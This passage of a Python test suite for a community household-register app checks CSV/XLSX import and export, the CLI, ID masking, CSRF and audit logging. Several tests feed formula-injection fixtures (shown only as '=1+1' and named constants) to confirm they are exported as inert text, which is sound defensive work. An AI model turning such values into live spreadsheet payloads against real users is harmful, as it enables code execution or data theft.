        (3, "姓名", FORMULA),
        (4, "备注", FORMULA),
    ]
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    checked = await upload(linli_client, "register.xlsx", xlsx(rows))
    note = escape(zh(linli_registry, FORMULA, formula=EVIL_NOTE))
    assert note in checked.text and 'name="token"' not in checked.text
    assert await Person.all().count() == 0


async def test_text_like_a_formula_is_stored_as_text_and_never_exported_as_one(
    linli_client, linli_community
):
    rows = evil_register()
    await make_account("admin", linli_community, "administrator")
    await log_in(linli_client, "admin")
    checked = await upload(linli_client, "register.csv", csv_bytes(rows))
    token = checked.text.split('name="token" value="')[1].split('"')[0]
    done = await form_post(linli_client, f"{BASE}/import/confirm", {"token": token})
    assert done.status_code == 200
    notes = sorted(await Person.all().values_list("notes", flat=True))
    assert notes == sorted(LOOKS_LIKE_FORMULAS) and await Person.get(name=EVIL_NAME)

    masked = await linli_client.get(f"{BASE}/export")
    full = await form_post(linli_client, f"{BASE}/export", {"kind": "xlsx"})
    as_csv = await linli_client.get(f"{BASE}/export", params={"kind": "csv"})
    full_csv = await form_post(linli_client, f"{BASE}/export", {"kind": "csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    note = HEADERS.index("备注")
    for response in (masked, full):
        values = assert_inert_xlsx(response.content)
        assert sorted(row[note] for row in values[1:]) == sorted(LOOKS_LIKE_FORMULAS)
    for response in (as_csv, full_csv):
        values = assert_escaped_csv(response.content)
        assert "'" + EVIL_NAME in [row[0] for row in values]
        assert {"'=1+1", "''楼上"} <= {row[note] for row in values}
    for response in (masked, full, as_csv, full_csv):  # each imports back unchanged
        report = await import_register(
            linli_community, read_table(response.content), dry_run=False, actor=None, today=TODAY
        )
        assert report.ok, report.problems
        assert (report.created, report.updated, report.unchanged) == (0, 0, len(rows))


async def test_full_id_numbers_are_exported_only_on_an_audited_request(
    linli_client, linli_community
):
    await do_import(linli_community, register(4))
    await make_account("worker", linli_community, "community_worker")
    await make_account("admin", linli_community, "administrator")
    await log_in(linli_client, "worker")
    assert (await form_post(linli_client, f"{BASE}/export", {})).status_code == 403
    await log_in(linli_client, "admin")
    ids = HEADERS.index("身份证号")
    page = await linli_client.get(f"{BASE}/", params={"tag": "高龄"})
    assert f'<form method="post" action="{BASE}/export"' in page.text
    masked = assert_inert_xlsx((await linli_client.get(f"{BASE}/export")).content)
    assert all("*" in row[ids] for row in masked[1:])
    forged = await linli_client.post(f"{BASE}/export", data={"tag": "高龄"})
    assert forged.status_code == 403  # no CSRF token
    full = await form_post(linli_client, f"{BASE}/export", {"tag": "高龄"})
    rows = assert_inert_xlsx(full.content)[1:]
    assert [row[ids] for row in rows] == [person_row(0)["身份证号"]]
    entries = await AuditEntry.filter(action="identity.register.exported").order_by("id")
    assert [(e.after["people"], e.after["full_id_numbers"]) for e in entries] == [
        (4, False),
        (1, True),
    ]
    assert entries[1].after["tag"] == "高龄"
    bad = await linli_client.get(f"{BASE}/export", params={"kind": "pdf"})
    assert bad.status_code == 400


async def test_files_masked_the_older_way_still_import(linli_community):
    rows = register(3)
    await do_import(linli_community, rows)
    old = [
        {**row, "身份证号": row["身份证号"][:3] + "*" * 11 + row["身份证号"][-4:]} for row in rows
    ]
    report = await do_import(linli_community, old, dry_run=True)
    assert report.ok and report.unchanged == 3
    wrong = [dict(row) for row in old]
    wrong[0]["身份证号"] = wrong[0]["身份证号"][:-4] + "0000"
    report = await do_import(linli_community, wrong, dry_run=True)
    assert [p.column for p in report.problems] == ["身份证号"]


# -- the command line ------------------------------------------------------------------


def _linli(instance, *args):
    env = {**os.environ, "LINLI_LOAD_PLUGINS": ""}
    env.pop("LINLI_DATABASE_URL", None)
    return subprocess.run(
        [*cli_command(), "--instance", str(instance), *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )


def test_the_register_commands(tmp_path):
    instance = tmp_path / "instance"
    assert _linli(instance, "init").returncode == 0
    assert _linli(instance, "migrate").returncode == 0
    assert _linli(instance, "community", "add", "jhl", "江汉里社区").returncode == 0

    template = tmp_path / "template.xlsx"
    made = _linli(instance, "register", "template", str(template))
    assert made.returncode == 0, made.stderr
    assert [c.value for c in load_workbook(template).worksheets[0][1]] == HEADERS

    rows = register(300)
    bad = [dict(row) for row in rows]
    bad[10]["手机号"] = "123"
    source = tmp_path / "register.csv"
    source.write_bytes(csv_bytes(bad))
    checked = _linli(instance, "register", "import", str(source), "--community", "jhl", "--dry-run")
    assert checked.returncode == 1
    assert "\n12\t手机号\t" in checked.stdout
    assert "1 of 300 rows have problems" in checked.stderr

    source.write_bytes(csv_bytes(rows))
    imported = _linli(instance, "register", "import", str(source), "--community", "jhl")
    assert imported.returncode == 0, imported.stderr
    assert "300" in imported.stdout

    exported = tmp_path / "export.xlsx"
    written = _linli(instance, "register", "export", str(exported), "--community", "jhl")
    assert written.returncode == 0 and "300 people" in written.stdout
    again = _linli(instance, "register", "import", str(exported), "--community", "jhl")
    assert again.returncode == 0
    assert re.findall(r"\d+", again.stdout.strip().splitlines()[-1]) == ["0", "0", "300"]

    unknown = _linli(instance, "register", "export", str(exported), "--community", "nowhere")
    assert unknown.returncode == 1 and "nowhere does not exist" in unknown.stderr


def test_the_command_line_exports_no_formula_and_masks_unless_asked(tmp_path):
    instance = tmp_path / "instance"
    for args in (["init"], ["migrate"], ["community", "add", "jhl", "江汉里社区"]):
        assert _linli(instance, *args).returncode == 0
    rows = evil_register()
    source = tmp_path / "register.csv"
    source.write_bytes(csv_bytes(rows))
    assert _linli(instance, "register", "import", str(source), "--community", "jhl").returncode == 0
    ids = HEADERS.index("身份证号")
    for name, extra in (("x.csv", []), ("x.xlsx", []), ("full.csv", ["--full-ids"])):
        target = tmp_path / name
        written = _linli(instance, "register", "export", str(target), "--community", "jhl", *extra)
        assert written.returncode == 0, written.stderr
        content = target.read_bytes()
        values = (
            assert_inert_xlsx(content) if name.endswith("xlsx") else assert_escaped_csv(content)
        )
        assert all(("*" in row[ids]) != bool(extra) for row in values[1:])
        again = _linli(instance, "register", "import", str(target), "--community", "jhl")
        assert again.returncode == 0, again.stdout
        assert re.findall(r"\d+", again.stdout.strip().splitlines()[-1]) == ["0", "0", "6"]


async def _flats_named_like_the_demo(community):
    """Building 10栋, entrance 2单元, flats 1201室 and 1202室, each with a household
    coded 10-2-1201 / 10-2-1202, as the demo and most registers name them."""
    from linli.testing import make_household, make_person, make_place

    root = await community_root(community)
    building = await make_place(community, "building", "10栋", parent=root)
    entrance = await make_place(community, "entrance", "2单元", parent=building)
    for room in ("1201", "1202"):
        flat = await make_place(community, "household", f"{room}室", parent=entrance)
        head = await make_person(community, f"户主{room}")
        await make_household(community, flat, head, code=f"10-2-{room}")
    return building


async def test_an_address_written_without_suffixes_matches_the_registers_flats(
    linli_client, linli_community, linli_registry
):
    """A row 10栋 / 2单元 / 1201 joins the household living at 1201室 instead of
    creating a node "1201" and a second household beside it; the dry run says which
    rows create places and households and which match."""
    await _flats_named_like_the_demo(linli_community)
    rows = [
        {"姓名": "王新", "性别": "男", "楼栋": "10栋", "单元": "2单元", "门牌/房号": "1201"},
        {"姓名": "李新", "性别": "女", "楼栋": "10", "单元": "2", "门牌/房号": "1202室"},
        {"姓名": "赵新", "性别": "女", "楼栋": "10 栋", "单元": "2单元", "门牌/房号": "1203"},
    ]
    before = await counts()
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    checked = await upload(linli_client, "register.xlsx", xlsx(rows))
    assert checked.status_code == 200
    registry = linli_registry
    assert zh(registry, "New households: %(count)d", count=1) in checked.text
    assert zh(registry, "Households already in the register: %(count)d", count=2) in checked.text
    # the one new flat is listed with its row and full address, named like its siblings
    row, code, address = (zh(registry, word) for word in ("Row", "Household", "Address"))
    assert (
        f'<td data-label="{row}">4</td><td data-label="{code}">10-2-1203</td>'
        f'<td data-label="{address}">10栋 2单元 1203室</td>'
    ) in checked.text
    assert (
        f'<td data-label="{row}">4</td><td data-label="{address}">10栋 2单元 1203室</td>'
    ) in checked.text
    assert await counts() == before  # a dry run changes nothing

    report = await do_import(linli_community, rows)
    assert report.ok and report.households_created == 1 and report.places_created == 1
    names = await Node.filter(community=linli_community, kind__key="household").values_list(
        "name", flat=True
    )
    assert sorted(names) == ["1201室", "1202室", "1203室"]
    wang = await Person.get(name="王新")
    membership = await Membership.get(person=wang).prefetch_related("household")
    assert membership.household.code == "10-2-1201"
    assert await Household.filter(community=linli_community).count() == 3
    # importing the same file again changes nothing
    again = await do_import(linli_community, rows)
    assert again.ok and again.created == 0 and again.households_created == 0
    assert again.places_created == 0


def test_place_keys_match_numbers_however_they_are_written():
    from linli.domain.identity.register import Place, place_key

    assert place_key("building", "10栋") == place_key("building", "10") == "10"
    assert place_key("building", "10号楼") == place_key("building", " 10 ") == "10"
    assert place_key("entrance", "2单元") == "2"
    assert place_key("household", "1201室") == place_key("household", "01201") == "1201"
    assert place_key("building", "A座") == "a座"
    assert Place("", "10栋", "2单元", "1201室").derived_code() == "10-2-1201"
